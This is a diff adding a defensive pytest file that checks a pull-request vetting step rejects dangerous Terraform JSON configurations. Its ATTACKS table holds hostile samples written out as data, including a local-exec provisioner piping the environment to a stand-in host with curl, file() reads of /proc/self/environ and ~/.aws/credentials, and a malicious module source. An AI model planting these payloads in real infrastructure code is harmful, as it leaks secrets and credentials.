@@ -1,0 +1,187 @@
+"""A configuration from a pull request that could run code while it is planned is refused."""
+
+import json
+import shutil
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from smsbot import project
+from smsbot.failure import Failure
+from smsbot.github.foreign import take_over
+from tests.stacks.synthesized import LONGEST, PLAIN, PROTECTED, WITH_NUMBER, synthesize_to
+
+STACK = PLAIN.names.prefix
+Change = Callable[[dict[str, Any]], object]
+
+
+@pytest.fixture(scope="module")
+def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    output = tmp_path_factory.mktemp("base") / "out"
+    synthesize_to(output, PLAIN)
+    return output
+
+
+def changed(base: Path, folder: Path, change: Change) -> Path:
+    foreign = folder / "foreign"
+    shutil.copytree(base, foreign)
+    path = foreign / "stacks" / STACK / "cdk.tf.json"
+    configuration = json.loads(path.read_text())
+    change(configuration)
+    path.write_text(json.dumps(configuration))
+    return foreign
+
+
+def role(configuration: dict[str, Any]) -> dict[str, Any]:
+    return configuration["resource"]["aws_iam_role"]["bot-role"]
+
+
+def key(configuration: dict[str, Any]) -> dict[str, Any]:
+    return configuration["resource"]["aws_kms_key"]["sns"]
+
+
+ATTACKS: dict[str, Change] = {
+    "a data source that runs a program": lambda c: c["data"].update(
+        external={"x": {"program": ["sh", "-c", "env"]}}
+    ),
+    "a data source of the provider": lambda c: c["data"].update(
+        aws_s3_object={"x": {"bucket": "b", "key": "smsbot-prod.tfstate"}}
+    ),
+    "a provisioner": lambda c: role(c).update(
+        provisioner=[{"local-exec": {"command": "env | curl -d @- https://evil.example"}}]
+    ),
+    "a provisioner in a list of blocks": lambda c: c["resource"]["aws_iam_role"].update(
+        more=[{"name": "more", "provisioner": {"local-exec": {"command": "env"}}}]
+    ),
+    "another provider": lambda c: c["resource"].update(null_resource={"x": {}}),
+    "another provider by the requirements": lambda c: c["terraform"]["required_providers"].update(
+        aws={"source": "evil/aws", "version": "6.25.0"}
+    ),
+    "another release": lambda c: c["terraform"]["required_providers"]["aws"].update(
+        version=">= 6.0"
+    ),
+    "an endpoint that gets signed requests": lambda c: c["provider"]["aws"][0].update(
+        endpoints=[{"sts": "https://evil.example"}]
+    ),
+    "an alias of the provider": lambda c: c["provider"]["aws"].append({"alias": "evil"}),
+    "a resource with another provider": lambda c: role(c).update(provider="aws.evil"),
+    "another state": lambda c: c["terraform"]["backend"]["local"].update(path="/etc/passwd"),
+    "a module": lambda c: c.update(module={"x": {"source": "git::https://evil.example"}}),
+    "a local value": lambda c: c.update(locals={"x": '${file("/proc/self/environ")}'}),
+    "a variable": lambda c: c.update(variable={"x": {"default": 1}}),
+    "an import": lambda c: c.update({"import": [{"to": "aws_kms_key.x", "id": "prod"}]}),
+    "a check with a data source": lambda c: c.update(check={"x": {"data": {"http": {}}}}),
+    "an ephemeral resource": lambda c: c.update(ephemeral={"aws_lambda_invocation": {}}),
+    "a function that reads a file": lambda c: role(c).update(
+        description='${file("/proc/self/environ")}'
+    ),
+    "a function in an index": lambda c: role(c).update(
+        description='${aws_kms_key.sns[file("/proc/self/environ")].arn}'
+    ),
+    "a function in the name of a tag": lambda c: key(c).update(
+        tags={'${file("/proc/self/environ")}': "x"}
+    ),
+    "a directive": lambda c: role(c).update(description="%{ if true }${path.cwd}%{ endif }"),
+    "a template that does not end": lambda c: role(c).update(description="${file("),
+    "the environment of Terraform": lambda c: role(c).update(description="${terraform.workspace}"),
+    "an output that reads a file": lambda c: c["output"].update(
+        Leak={"value": '${filebase64("~/.aws/credentials")}'}
+    ),
+    "an expression in a condition": lambda c: role(c).update(
+        lifecycle={"precondition": [{"condition": '${fileexists("/x")}', "error_message": "x"}]}
+    ),
+}
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_what_could_run_code_is_refused(name: str, base: Path, tmp_path: Path) -> None:
+    foreign = changed(base, tmp_path, ATTACKS[name])
+    with pytest.raises(Failure, match="could run code while it is planned"):
+        take_over(STACK, base=base, foreign=foreign, output=tmp_path / "output")
+    assert not (tmp_path / "output").exists()
+
+
+def test_a_comment_never_reaches_terraform(base: Path, tmp_path: Path) -> None:
+    """Where Terraform expects no block, a member of that name is an expression."""
+
+    def hidden(configuration: dict[str, Any]) -> None:
+        tags = {"//": '${file("/proc/self/environ")}'}
+        key(configuration)["tags"] = tags
+        configuration["provider"]["aws"][0]["default_tags"][0]["tags"].update(tags)
+
+    take_over(STACK, base=base, foreign=changed(base, tmp_path, hidden), output=tmp_path / "output")
+    written = (tmp_path / "output" / "stacks" / STACK / "cdk.tf.json").read_text()
+    assert "file(" not in written
+    assert "//" not in written.replace("https://", "")
+
+
+def test_what_changes_resources_only_is_planned(base: Path, tmp_path: Path) -> None:
+    def weaker(configuration: dict[str, Any]) -> None:
+        key(configuration)["rotation_period_in_days"] = 2560
+        role(configuration)["description"] = "$${aws:username} and ${aws_kms_key.sns.arn}"
+
+    foreign = changed(base, tmp_path, weaker)
+    take_over(STACK, base=base, foreign=foreign, output=tmp_path / "output")
+    folder = tmp_path / "output" / "stacks" / STACK
+    configuration = json.loads((folder / "cdk.tf.json").read_text())
+    assert key(configuration)["rotation_period_in_days"] == 2560
+    files = {str(each.relative_to(folder)) for each in folder.rglob("*") if each.is_file()}
+    assert {each for each in files if not each.startswith("assets/")} == {"cdk.tf.json"}
+    assert len(files) == 2
+
+
+def test_only_the_configuration_and_its_assets_are_taken(base: Path, tmp_path: Path) -> None:
+    foreign = changed(base, tmp_path, lambda _: None)
+    folder = foreign / "stacks" / STACK
+    for name in ("evil.tf", "evil_override.tf.json", "terraform.tfvars", ".terraformrc"):
+        (folder / name).write_text("evil")
+    (folder / ".terraform").mkdir()
+    take_over(STACK, base=base, foreign=foreign, output=tmp_path / "output")
+    taken = {each.name for each in (tmp_path / "output" / "stacks" / STACK).iterdir()}
+    assert taken == {"cdk.tf.json", "assets"}
+
+
+@pytest.mark.parametrize("name", ["cdk.tf.json", "assets/more.zip"])
+def test_a_link_is_refused(name: str, base: Path, tmp_path: Path) -> None:
+    foreign = changed(base, tmp_path, lambda _: None)
+    path = foreign / "stacks" / STACK / name
+    path.unlink(missing_ok=True)
+    path.symlink_to("/etc/hostname")
+    with pytest.raises(Failure, match=r"is a link|neither a file nor a folder"):
+        take_over(STACK, base=base, foreign=foreign, output=tmp_path / "output")
+
+
+@pytest.mark.parametrize("text", ["[]", "{", '{"resource": {}, "resource": {}}', "[" * 100_000])
+def test_what_is_not_a_configuration_is_refused(text: str, base: Path, tmp_path: Path) -> None:
+    foreign = changed(base, tmp_path, lambda _: None)
+    (foreign / "stacks" / STACK / "cdk.tf.json").write_text(text)
+    with pytest.raises(Failure):
+        take_over(STACK, base=base, foreign=foreign, output=tmp_path / "output")
+
+
+def test_every_kind_of_environment_of_ours_passes(tmp_path: Path) -> None:
+    output = tmp_path / "out"
+    every = (PLAIN, PROTECTED, LONGEST, WITH_NUMBER)
+    synthesize_to(output, *every)
+    for each in every:
+        take_over(each.names.prefix, base=output, foreign=output, output=tmp_path / "taken")
+
+
+def test_the_command_refuses_with_status_2_and_the_reason(base: Path, tmp_path: Path) -> None:
+    foreign = changed(base, tmp_path, ATTACKS["a provisioner"])
+    ended = subprocess.run(
+        [
+            *(sys.executable, "-m", "smsbot", "github", "vet", "dev"),
+            *("--base", str(base), "--foreign", str(foreign), "--output", str(tmp_path / "out")),
+        ],
+        cwd=project.ROOT,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert ended.returncode == 2
+    assert "resource.aws_iam_role.bot-role.provisioner: is not allowed" in ended.stderr
